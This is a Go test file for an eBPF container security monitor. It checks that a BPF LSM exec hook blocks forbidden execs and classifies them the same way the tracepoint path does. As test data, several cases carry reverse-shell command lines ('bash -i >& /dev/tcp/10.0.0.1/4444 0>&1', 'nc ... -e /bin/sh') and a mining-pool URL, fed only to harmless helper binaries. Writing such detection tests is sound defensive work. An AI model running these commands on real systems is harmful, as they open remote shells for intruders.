package monitor

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/cilium/ebpf"
	"github.com/cilium/ebpf/link"
	"golang.org/x/sys/unix"

	"github.com/vigil-dev/vigil/monitor/bpf"
	"github.com/vigil-dev/vigil/monitor/event"
)

// The LSM exec hook is tested where the kernel allows BPF LSM: test/vm boots
// Debian's kernel with "bpf" in lsm= and runs these tests there with
// VIGIL_TEST_EXEC_ENFORCEMENT=lsm, which turns their skips into failures.
const execEnforcementEnv = "VIGIL_TEST_EXEC_ENFORCEMENT"

func init() {
	moreHelpers["lsm-exec"] = helperLSMExec
}

const (
	helperExecEnv = "VIGIL_MONITOR_HELPER_EXEC" // path to exec, or "memfd" (a memfd copy of this binary)
	helperArgvEnv = "VIGIL_MONITOR_HELPER_ARGV" // its argv, separated by \x1f
	helperT0Env   = "VIGIL_MONITOR_HELPER_T0"   // file to write CLOCK_MONOTONIC ns into just before the exec
	argvSep       = "\x1f"
)

// helperLSMExec execs helperExecEnv with helperArgvEnv as the program that
// runs "touch" (this binary) would: when the exec fails it is still
// running, says so on stderr ("survived", the error and how long execve
// took) and exits with exitEPERM for EPERM, 2 otherwise.
func helperLSMExec() int {
	target := os.Getenv(helperExecEnv)
	argv := strings.Split(os.Getenv(helperArgvEnv), argvSep)
	env := []string{helperEnv + "=touch"}
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, helperEnv+"=") {
			env = append(env, kv)
		}
	}
	fd := -1
	if target == "memfd" {
		var err error
		if fd, err = memfdSelf(); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
	}
	if f := os.Getenv(helperT0Env); f != "" {
		if err := os.WriteFile(f, []byte(strconv.FormatInt(monotonic(), 10)), 0o600); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
	}
	start := monotonic()
	var err error
	if fd >= 0 {
		err = execveat(fd, argv, env)
	} else {
		err = unix.Exec(target, argv, env)
	}
	took := monotonic() - start
	fmt.Fprintf(os.Stderr, "survived: execve: %v (%d ns)\n", err, took)
	if errors.Is(err, syscall.EPERM) {
		return exitEPERM
	}
	return 2
}

func memfdSelf() (int, error) {
	fd, err := unix.MemfdCreate("vigil-test", unix.MFD_CLOEXEC)
	if err != nil {
		return -1, err
	}
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return -1, err
	}
	if _, err := unix.Write(fd, self); err != nil {
		return -1, err
	}
	return fd, nil
}

func monotonic() int64 {
	var ts unix.Timespec
	_ = unix.ClockGettime(unix.CLOCK_MONOTONIC, &ts)
	return ts.Nano()
}

// execIn runs the lsm-exec helper in cg: it execs path (or "memfd") with
// argv, and the exec'd program (this binary) writes marker.
func execIn(t *testing.T, cg testCgroup, path string, argv []string, marker string, env ...string) run {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	return runIn(t, cg, self, []string{"lsm-exec"}, append([]string{
		helperEnv + "=lsm-exec", helperExecEnv + "=" + path, helperArgvEnv + "=" + strings.Join(argv, argvSep),
		helperFileEnv + "=" + marker,
	}, env...)...)
}

// targetExecOf matches the exec the lsm-exec helper pid made (not its own).
func targetExecOf(pid int) func(*event.Event) bool {
	return func(ev *event.Event) bool { return execOf(pid)(ev) && ev.Process.Exe != "lsm-exec" }
}

// requireLSM skips unless the monitor's LSM exec hook is attached (and
// fails instead when the environment says it must be).
func requireLSM(t *testing.T, m *Monitor) {
	t.Helper()
	if m.ExecEnforcement() == ExecLSM {
		return
	}
	if os.Getenv(execEnforcementEnv) == string(ExecLSM) {
		t.Fatalf("%s=lsm but the exec path is %s: %s", execEnforcementEnv, m.ExecEnforcement(), m.ExecEnforcementReason())
	}
	t.Skipf("requires the LSM exec hook (the kernel refuses it: %s); test/vm runs this test in a VM that allows it", m.ExecEnforcementReason())
}

// TestExecEnforcementPath: the path a Monitor uses is the one the LSM probe
// predicts, the reason says why it is not LSM, and the loader logs that
// once. On the development kernel (6.18, lockdown) BPF_PROG_LOAD refuses
// LSM programs with EPERM, so the tracepoint is the path.
func TestExecEnforcementPath(t *testing.T) {
	requireRoot(t)
	f := Features()
	lsmFallback = sync.Once{}
	var logs []string
	opts := testOptions(t)
	opts.Logf = func(format string, args ...any) { logs = append(logs, fmt.Sprintf(format, args...)) }
	m := openMonitor(t, opts)
	got := m.ExecEnforcement()
	t.Logf("exec enforcement: %s (probe: %s) %s", got, f.LSM, m.ExecEnforcementReason())
	if want := os.Getenv(execEnforcementEnv); want != "" && string(got) != want {
		t.Fatalf("exec enforcement %s, want %s (%s): %s", got, execEnforcementEnv, want, m.ExecEnforcementReason())
	}
	if want := f.ExecEnforcement(); got != want {
		t.Fatalf("exec enforcement %s, but the LSM probe (%s) predicts %s: %s", got, f.LSM, want, m.ExecEnforcementReason())
	}
	switch got {
	case ExecTracepoint:
		if f.LSM.Available || !strings.Contains(m.ExecEnforcementReason(), f.LSM.Reason) {
			t.Errorf("reason %q does not carry the probe's %q", m.ExecEnforcementReason(), f.LSM.Reason)
		}
		if len(logs) != 1 || !strings.Contains(logs[0], "tracepoint") || !strings.Contains(logs[0], f.LSM.Reason) {
			t.Errorf("logged %q, want the fallback once", logs)
		}
		if _, err := os.Stat(filepath.Join(m.PinDir(), pinLSMLink)); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s pinned without the LSM path: %v", pinLSMLink, err)
		}
	case ExecLSM:
		if m.ExecEnforcementReason() != "" || len(logs) != 0 {
			t.Errorf("LSM path with reason %q, logs %q", m.ExecEnforcementReason(), logs)
		}
		if _, err := os.Stat(filepath.Join(m.PinDir(), pinLSMLink)); err != nil {
			t.Errorf("LSM path without %s pinned: %v", pinLSMLink, err)
		}
	default:
		t.Fatalf("exec enforcement %q", got)
	}
	// A second Monitor reuses the set and its path.
	m2 := openMonitor(t, opts)
	if m2.Loaded() || m2.ExecEnforcement() != got {
		t.Errorf("reusing Monitor: loaded %v, path %s, want %s", m2.Loaded(), m2.ExecEnforcement(), got)
	}
	if len(logs) > 1 {
		t.Errorf("fallback logged %d times", len(logs))
	}
}

// TestLSMDeniesExec: with the LSM hook attached, an exec the container's
// policy forbids fails with EPERM in the calling process, which survives
// (no SIGKILL); the event says "denied"; the same exec runs in a cgroup
// that is not registered.
func TestLSMDeniesExec(t *testing.T) {
	requireRoot(t)
	m := openMonitor(t, testOptions(t))
	requireLSM(t, m)
	events := collect(t, m)
	cg, other := newCgroup(t), newCgroup(t)
	dir := t.TempDir()
	shell := helperLink(t, dir, "fakesh")
	plain := helperLink(t, dir, "plain")
	self, _ := os.Executable()

	type execCase struct {
		name  string
		path  string
		argv  []string
		class uint32 // a class the event must carry
		// seen is the argv the kernel reports when it differs from argv:
		// a script's is its interpreter's.
		seen []string
	}
	cases := []execCase{
		{"shell by name", shell, []string{"fakesh", "-c", "x"}, ClassShell, nil},
		{"reverse shell marker in argv", plain, []string{"plain", "-c", "sh -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, ClassRevShell, nil},
		{"memfd", "memfd", []string{"memfd-child"}, ClassDrift, nil},
	}
	var exes []Exe
	ov := newOverlay(t)
	ov.mount(t)
	upperbin := filepath.Join(ov.merged, "upperbin")
	copyFile(t, self, upperbin)
	cases = append(cases, execCase{"upper-layer binary", upperbin, []string{"upperbin"}, ClassDrift, nil})
	if _, err := os.Stat("/bin/sh"); err == nil {
		script := filepath.Join(ov.merged, "upperscript")
		if err := os.WriteFile(script, []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		cases = append(cases, execCase{"upper-layer script", script, []string{"upperscript"}, ClassDrift, []string{"/bin/sh", script}})
	}
	if busybox, err := exec.LookPath("busybox"); err == nil {
		bb := filepath.Join(ov.lower, "busybox")
		copyFile(t, busybox, bb)
		e, err := StatExe(bb, ClassMulticall)
		if err != nil {
			t.Fatal(err)
		}
		exes = append(exes, e)
		cases = append(cases, execCase{"busybox applet in argv", bb, []string{"busybox", "sh", "-c", "true"}, ClassShell, nil})
	}
	err := m.Register(cg.id, Container{
		Mode:     Enforce,
		KillMask: ClassShell | ClassDrift | ClassRevShell,
		Names:    map[string]uint32{"fakesh": ClassShell, "sh": ClassShell},
		Exes:     exes,
	})
	if err != nil {
		t.Fatal(err)
	}
	var denied int
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			marker := filepath.Join(t.TempDir(), "ran")
			r := execIn(t, cg, tc.path, tc.argv, marker)
			if sig := r.signaled(); sig != 0 || r.state.ExitCode() != exitEPERM || !strings.Contains(r.stderr, "survived") {
				t.Fatalf("exec: %v (signal %v), stderr %q; want EPERM in a surviving process", r.state, sig, r.stderr)
			}
			denied++
			t.Logf("%s", strings.TrimSpace(r.stderr))
			if _, err := os.Stat(marker); !errors.Is(err, os.ErrNotExist) {
				t.Fatalf("the refused program ran: %v", err)
			}
			ev := events.wait(t, "denied exec", targetExecOf(r.pid))
			if ev.KernelAction != KernelDenied || ev.Process.Classes&tc.class == 0 {
				t.Errorf("event action %q classes %s, want denied and %s", ev.KernelAction, ClassString(ev.Process.Classes), ClassString(tc.class))
			}
			if tc.path != "memfd" && ev.Process.ExePath != tc.path {
				t.Errorf("event exe path %q, want %q", ev.Process.ExePath, tc.path)
			}
			seen := tc.seen
			if seen == nil {
				seen = tc.argv
			}
			if !slices.Equal(append([]string{ev.Process.Exe}, ev.Process.Args...), seen) {
				t.Errorf("event argv %q %q, want %q", ev.Process.Exe, ev.Process.Args, seen)
			}
			// The same exec in a cgroup that is not registered runs.
			marker2 := filepath.Join(t.TempDir(), "ran")
			r2 := execIn(t, other, tc.path, tc.argv, marker2)
			if tc.path == shell || tc.path == plain || tc.path == upperbin || tc.path == "memfd" {
				if !r2.state.Success() {
					t.Fatalf("in an unregistered cgroup: %v %s", r2.state, r2.stderr)
				}
				if _, err := os.Stat(marker2); err != nil {
					t.Fatalf("in an unregistered cgroup the program did not run: %v", err)
				}
			} else if r2.signaled() != 0 || r2.state.ExitCode() == exitEPERM {
				t.Fatalf("in an unregistered cgroup: %v %s", r2.state, r2.stderr)
			}
		})
	}
	// Nothing was killed: the tracepoint never saw the refused execs.
	for _, ev := range events.all() {
		if ev.KernelAction == "killed" {
			t.Errorf("killed: %s pid %d", ev.Process.Name, ev.Process.PID)
		}
	}
	st, err := m.Stats()
	if err != nil {
		t.Fatal(err)
	}
	if st.Kernel.ExecsDenied != uint64(denied) || st.Kernel.Kills != 0 {
		t.Errorf("kernel stats: %d denied, %d kills; want %d denied, no kill", st.Kernel.ExecsDenied, st.Kernel.Kills, denied)
	}
}

// TestLSMSameDecisionAsTracepoint runs each exec twice from the same
// parent: in audit mode, where the tracepoint reports what it saw after
// the exec, and in enforce mode with every class forbidden, where the LSM
// hook refuses it before and reports what it saw. The two views (name,
// argv, file, classes, origin) must be the same.
func TestLSMSameDecisionAsTracepoint(t *testing.T) {
	requireRoot(t)
	m := openMonitor(t, testOptions(t))
	requireLSM(t, m)
	events := collect(t, m)
	cg := newCgroup(t)
	dir := t.TempDir()
	links := map[string]string{}
	for _, n := range []string{"fakesh", "fakenc", "plain"} {
		links[n] = helperLink(t, dir, n)
	}
	// A path longer than a page of the kernel's filename buffer: comm is
	// its last component.
	deep := dir
	for len(deep) < 320 {
		deep = filepath.Join(deep, strings.Repeat("d", 60))
	}
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	longPath := helperLink(t, deep, "fakesh")

	type execCase struct {
		name string
		path string
		argv []string
	}
	long := []string{"fakesh"}
	for len(long) < 100 {
		long = append(long, "padding")
	}
	long = append(long, "-i")
	cases := []execCase{
		{"shell", links["fakesh"], []string{"fakesh", "-c", "x"}},
		{"interactive shell", links["fakesh"], []string{"fakesh", "-i"}},
		{"argv0 differs from the file", links["fakesh"], []string{"something-else", "-c", "x"}},
		{"nc -e", links["fakenc"], []string{"fakenc", "10.0.0.1", "4444", "-e", "/bin/sh"}},
		{"dev tcp", links["plain"], []string{"plain", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}},
		{"stratum", links["plain"], []string{"plain", "-o", "stratum+tcp://pool.example:3333"}},
		{"long argv cut at 512 bytes", links["fakesh"], long},
		{"argv of exactly 512 bytes", links["fakesh"], []string{"fakesh", strings.Repeat("x", 512-len("fakesh\x00-i\x00")-1), "-i"}},
		{"long path", longPath, []string{"fakesh"}},
		{"memfd", "memfd", []string{"memfd-child"}},
	}
	var exes []Exe
	ov := newOverlay(t)
	ov.mount(t)
	self, _ := os.Executable()
	copyFile(t, self, filepath.Join(ov.merged, "upperbin"))
	cases = append(cases, execCase{"upper-layer binary", filepath.Join(ov.merged, "upperbin"), []string{"upperbin"}})
	if _, err := os.Stat("/bin/sh"); err == nil {
		script := filepath.Join(ov.merged, "upperscript")
		if err := os.WriteFile(script, []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		cases = append(cases, execCase{"upper-layer script", script, []string{"upperscript", "arg"}})
	}
	if busybox, err := exec.LookPath("busybox"); err == nil {
		bb := filepath.Join(ov.lower, "busybox")
		copyFile(t, busybox, bb)
		e, err := StatExe(bb, ClassMulticall)
		if err != nil {
			t.Fatal(err)
		}
		exes = append(exes, e)
		for _, argv := range [][]string{
			{"busybox", "sh", "-c", "true"},
			{"busybox", "busybox", "/bin/sh", "-c", "true"},
			{"-sh", "-c", "true"},
			{"busybox", "wget", "-O-", "http://example.invalid/"},
		} {
			cases = append(cases, execCase{"busybox " + strings.Join(argv, " "), bb, argv})
		}
	}
	names := map[string]uint32{"fakesh": ClassShell, "fakenc": ClassNetTool, "sh": ClassShell, "wget": ClassNetTool, "upperbin": ClassCompiler, "plain": ClassRecon}
	register := func(mode Mode) {
		t.Helper()
		if err := m.Register(cg.id, Container{Mode: mode, KillMask: ^uint32(0), Names: names, Exes: exes}); err != nil {
			t.Fatal(err)
		}
	}
	// Fields that must agree; Time and PID differ between the runs, and so
	// does the inode of each run's new memfd.
	view := func(p event.Process) string {
		if p.IsExeFromMemfd {
			p.ExeIno = 0
		}
		return fmt.Sprintf("name=%q exe=%q args=%q path=%q dev=%#x ino=%d classes=%s upper=%v memfd=%v deleted=%v entry=%v ppid=%d uid=%d tty=%d ancestors=%q",
			p.Name, p.Exe, p.Args, p.ExePath, p.ExeDev, p.ExeIno, ClassString(p.Classes), p.IsExeUpperLayer,
			p.IsExeFromMemfd, p.IsExeDeleted, p.IsEntrypoint, p.PPID, p.UID, p.TTY, p.Ancestors)
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			register(Audit)
			ra := execIn(t, cg, tc.path, tc.argv, filepath.Join(t.TempDir(), "ran"))
			if ra.state.ExitCode() == exitEPERM {
				t.Fatalf("audit run refused: %s", ra.stderr)
			}
			tp := events.wait(t, "tracepoint event", targetExecOf(ra.pid))
			register(Enforce)
			re := execIn(t, cg, tc.path, tc.argv, filepath.Join(t.TempDir(), "ran"))
			if tp.Process.Classes == 0 {
				// Nothing to refuse: the exec runs, as the tracepoint saw.
				if re.state.ExitCode() == exitEPERM || re.signaled() != 0 {
					t.Fatalf("exec without a class refused: %v %s", re.state, re.stderr)
				}
				return
			}
			if re.state.ExitCode() != exitEPERM {
				t.Fatalf("enforce run: %v %s, want EPERM (tracepoint saw %s)", re.state, re.stderr, view(tp.Process))
			}
			lsm := events.wait(t, "LSM event", targetExecOf(re.pid))
			if lsm.KernelAction != KernelDenied {
				t.Errorf("LSM event action %q", lsm.KernelAction)
			}
			if a, b := view(tp.Process), view(lsm.Process); a != b {
				t.Errorf("the hooks saw different execs:\n tracepoint %s\n lsm        %s", a, b)
			}
		})
	}
}

// TestExecEnforcementLatency measures, on the active path, how long an
// exec the policy forbids takes to be stopped: from the execve call to its
// EPERM return (LSM), and from the execve call to the parent's wait
// returning (both paths: the refused process exits at once, the killed one
// dies).
func TestExecEnforcementLatency(t *testing.T) {
	requireRoot(t)
	if testing.Short() {
		t.Skip("measurement")
	}
	m := openMonitor(t, testOptions(t))
	cg := newCgroup(t)
	dir := t.TempDir()
	shell := helperLink(t, dir, "fakesh")
	if err := m.Register(cg.id, Container{Mode: Enforce, KillMask: ClassShell, Names: map[string]uint32{"fakesh": ClassShell}}); err != nil {
		t.Fatal(err)
	}
	// The hooks' own run time (kernel.bpf_stats_enabled while this runs).
	if c, err := ebpf.EnableStats(uint32(unix.BPF_STATS_RUN_TIME)); err == nil {
		defer func() {
			for _, pin := range []string{pinLSMLink, pinExecLink} {
				l, err := link.LoadPinnedLink(filepath.Join(m.PinDir(), pin), nil)
				if err != nil {
					continue
				}
				info, err := l.Info()
				l.Close()
				if err != nil {
					continue
				}
				p, err := ebpf.NewProgramFromID(info.Program)
				if err != nil {
					continue
				}
				if st, err := p.Stats(); err == nil && st.RunCount > 0 {
					t.Logf("%s path: %s program: %d runs (every exec on the node), %v on average",
						m.ExecEnforcement(), pin, st.RunCount, st.Runtime/time.Duration(st.RunCount))
				}
				p.Close()
			}
			c.Close()
		}()
	}
	const runs = 15
	var inProc, toWait []time.Duration
	for i := 0; i < runs; i++ {
		t0 := filepath.Join(dir, "t0")
		r := execIn(t, cg, shell, []string{"fakesh"}, filepath.Join(dir, "ran"), helperT0Env+"="+t0)
		end := monotonic()
		b, err := os.ReadFile(t0)
		if err != nil {
			t.Fatal(err)
		}
		start, _ := strconv.ParseInt(string(b), 10, 64)
		toWait = append(toWait, time.Duration(end-start))
		switch m.ExecEnforcement() {
		case ExecLSM:
			var ns int64
			if _, err := fmt.Sscanf(r.stderr[strings.LastIndex(r.stderr, "(")+1:], "%d ns", &ns); err != nil || r.state.ExitCode() != exitEPERM {
				t.Fatalf("exec: %v %q", r.state, r.stderr)
			}
			inProc = append(inProc, time.Duration(ns))
		case ExecTracepoint:
			if r.signaled() != syscall.SIGKILL {
				t.Fatalf("exec: %v %q", r.state, r.stderr)
			}
		}
	}
	stat := func(d []time.Duration) string {
		sort.Slice(d, func(i, j int) bool { return d[i] < d[j] })
		return fmt.Sprintf("median %v (min %v, max %v)", d[len(d)/2], d[0], d[len(d)-1])
	}
	if len(inProc) > 0 {
		t.Logf("%s path: exec stopped: execve returned EPERM in %s", m.ExecEnforcement(), stat(inProc))
	}
	t.Logf("%s path: exec stopped: execve to the parent's wait %s, %d runs", m.ExecEnforcement(), stat(toWait), runs)
}

// An exec record decodes its kernel action: EV_DENIED (the LSM hook
// refused it) as "denied", EV_KILLED as "killed", neither as "".
func TestDecodeExecKernelAction(t *testing.T) {
	meta := func(id uint64) event.Container { return event.Container{CgroupID: id} }
	for _, c := range []struct {
		flags bpf.VigilEventFlags
		want  string
	}{
		{0, ""},
		{bpf.VigilEventFlagsEV_KILLED, "killed"},
		{bpf.VigilEventFlagsEV_DENIED, KernelDenied},
	} {
		ev, err := decodeRecord(execRecord(t, "sh\x00", c.flags), time.Unix(0, 0), meta)
		if err != nil {
			t.Fatal(err)
		}
		if ev.KernelAction != c.want {
			t.Errorf("flags %#x: action %q, want %q", c.flags, ev.KernelAction, c.want)
		}
	}
}

// TestLSMHookVerifies loads the LSM exec hook on the running kernel, never
// attached. Where the kernel refuses LSM programs (the development kernel)
// it is loaded as a tp_btf program on sched_process_exec instead (its
// return value is then ignored, its context unread but for bprm, which it
// reads with probes only): the kernel's verifier and CO-RE relocations
// still check all of its code.
func TestLSMHookVerifies(t *testing.T) {
	requireRoot(t)
	spec, err := bpf.LoadVigilLsm()
	if err != nil {
		t.Fatal(err)
	}
	p := spec.Programs[bpf.VigilLsmProgVigilBprmCheck]
	if f := Features(); !f.LSM.Available {
		t.Logf("LSM programs refused (%s): verifying as tp_btf/sched_process_exec", f.LSM.Reason)
		p.Type, p.AttachType, p.AttachTo = ebpf.Tracing, ebpf.AttachTraceRawTp, "sched_process_exec"
	}
	coll, err := ebpf.NewCollectionWithOptions(spec, ebpf.CollectionOptions{Programs: ebpf.ProgramOptions{LogLevel: ebpf.LogLevelStats}})
	if err != nil {
		var ve *ebpf.VerifierError
		if errors.As(err, &ve) {
			t.Fatalf("%+v", ve)
		}
		t.Fatal(err)
	}
	defer coll.Close()
	prog := coll.Programs[bpf.VigilLsmProgVigilBprmCheck]
	if prog.VerifierLog != "" {
		lines := strings.Split(strings.TrimSpace(prog.VerifierLog), "\n")
		t.Logf("verifier: %s", lines[len(lines)-1])
	}
}
